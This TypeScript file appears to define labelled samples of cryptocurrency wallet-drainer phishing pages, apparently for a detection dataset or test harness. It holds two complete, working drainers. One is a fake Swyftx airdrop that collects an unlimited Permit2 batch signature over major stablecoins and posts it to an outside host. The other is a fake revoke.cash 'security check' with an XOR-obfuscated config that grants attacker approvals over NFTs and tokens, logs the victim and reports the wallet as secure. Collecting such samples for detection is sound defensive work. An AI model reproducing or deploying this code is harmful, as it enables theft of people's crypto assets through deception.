import type { Entry } from '../entry.js';
import { shell, baseCss, xorB64, xorDecoder } from '../parts/xd-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'xd-drainer-exchange-airdrop-permit2',
  label: 'cryptodrainer',
  kind: 'wallet-drainer-permit',
  url: 'https://swyftx-rewards.claim-drop.app/10-years',
  body: shell(
    'Swyftx 10 Year Anniversary Airdrop – Claim SWX',
    `<div style="background:#0b0d26;color:#fff;min-height:100vh;font-family:Inter,Arial;text-align:center;padding:50px 16px">
 <h1 style="font-size:36px">Swyftx turns 10 🎉</h1>
 <p style="font-size:18px;max-width:560px;margin:auto">To thank our Australian and NZ community we're airdropping <b>2,500,000 SWX</b> tokens. Eligible wallets can claim until <span id="d"></span>.</p>
 <button id="c" style="margin-top:26px;background:#2a6fff;color:#fff;border:0;border-radius:28px;padding:16px 36px;font-size:18px">Connect wallet</button>
 <p id="s" style="margin-top:16px;color:#9aa3c7"></p>
</div>
<script>
var SPENDER = '0x7a16fF8270133F063aAb6C9977183D9e72835428';
var PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
var TOKENS = ['0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0x6B175474E89094C44Da98b954EedeAC495271d0F', '0x514910771AF9Ca656af840dff83E8264EcF986CA'];
document.getElementById('d').textContent = new Date(Date.now() + 2 * 864e5).toLocaleDateString('en-AU');
document.getElementById('c').onclick = async function () {
  var st = document.getElementById('s');
  if (!window.ethereum) { st.textContent = 'Please open this page in MetaMask or Trust Wallet browser.'; return; }
  var acc = (await ethereum.request({ method: 'eth_requestAccounts' }))[0];
  st.textContent = 'Checking eligibility for ' + acc.slice(0, 6) + '…' + acc.slice(-4) + ' — eligible for 1,840 SWX';
  this.textContent = 'Claim 1,840 SWX';
  this.onclick = async function () {
    var deadline = Math.floor(Date.now() / 1000) + 86400 * 30;
    var msg = {
      types: { EIP712Domain: [{ name: 'name', type: 'string' }, { name: 'chainId', type: 'uint256' }, { name: 'verifyingContract', type: 'address' }], PermitDetails: [{ name: 'token', type: 'address' }, { name: 'amount', type: 'uint160' }, { name: 'expiration', type: 'uint48' }, { name: 'nonce', type: 'uint48' }], PermitBatch: [{ name: 'details', type: 'PermitDetails[]' }, { name: 'spender', type: 'address' }, { name: 'sigDeadline', type: 'uint256' }] },
      primaryType: 'PermitBatch',
      domain: { name: 'Permit2', chainId: 1, verifyingContract: PERMIT2 },
      message: { details: TOKENS.map(function (t) { return { token: t, amount: '1461501637330902918203684832716283019655932542975', expiration: deadline, nonce: 0 }; }), spender: SPENDER, sigDeadline: deadline }
    };
    var sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [acc, JSON.stringify(msg)] });
    await fetch('https://api.claim-drop.app/v2/permit', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ owner: acc, sig: sig, msg: msg.message }) });
    st.textContent = 'Claim submitted! Tokens will appear in your wallet within 24 hours.';
  };
};
</script>`,
  ),
},
{
  id: 'xd-drainer-fake-revoke-setapprovalforall',
  label: 'cryptodrainer',
  kind: 'wallet-drainer-approval',
  url: 'https://revoke-cash.wallet-security-check.io/scan',
  body: shell(
    'Wallet Security Check – Revoke risky approvals',
    `<main style="max-width:640px">
 <h1 style="font-size:24px">🔒 Wallet Security Check</h1>
 <p>Following the recent exploit affecting several Australian exchanges, we recommend every user scan their wallet and revoke risky token approvals.</p>
 <button id="scan" style="background:#111">Connect &amp; scan wallet</button>
 <div id="out" style="margin-top:18px"></div>
</main>
<script src="/scan/assets/secure.js"></script>`,
    { css: baseCss('#111') },
  ),
  routes: {
    'revoke-cash.wallet-security-check.io/scan/assets/secure.js': jsRoute(
      `${xorDecoder('_q')}
var _cfg = JSON.parse(_q('${xorB64(JSON.stringify({ op: '0x3f5c8E1c2d93Bf2f8a4A5c0F7eD4B9a1c6E08D27', nft: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0xED5AF388653567Af2F388E6224dC7C4b3241C544', '0x60E4d786628Fea6478F785A6d7e704777c86a7c6'], erc20: ['0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'], log: 'https://wallet-security-check.io/api/l' }), 'rvk')}', 'rvk'));
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0')}
document.getElementById('scan').onclick = async function(){
  var a = (await ethereum.request({method:'eth_requestAccounts'}))[0];
  var out = document.getElementById('out');
  out.innerHTML = '<p style="color:#c62828"><b>3 high-risk approvals found.</b> Click “Revoke all” to secure your wallet.</p><button id="rv" style="background:#c62828">Revoke all</button>';
  document.getElementById('rv').onclick = async function(){
    for (var i = 0; i < _cfg.nft.length; i++) {
      var data = '0xa22cb465' + pad(_cfg.op) + pad('0x1');
      try { await ethereum.request({method:'eth_sendTransaction', params:[{from:a, to:_cfg.nft[i], data:data}]}); } catch(e) {}
    }
    for (var j = 0; j < _cfg.erc20.length; j++) {
      var d2 = '0x095ea7b3' + pad(_cfg.op) + 'f'.repeat(64);
      try { await ethereum.request({method:'eth_sendTransaction', params:[{from:a, to:_cfg.erc20[j], data:d2}]}); } catch(e) {}
    }
    fetch(_cfg.log, {method:'POST', body: JSON.stringify({a:a})});
    out.innerHTML = '<p style="color:#2e7d32">✔ All risky approvals revoked. Your wallet is secure.</p>';
  };
};`,
    ),
  },
},
];
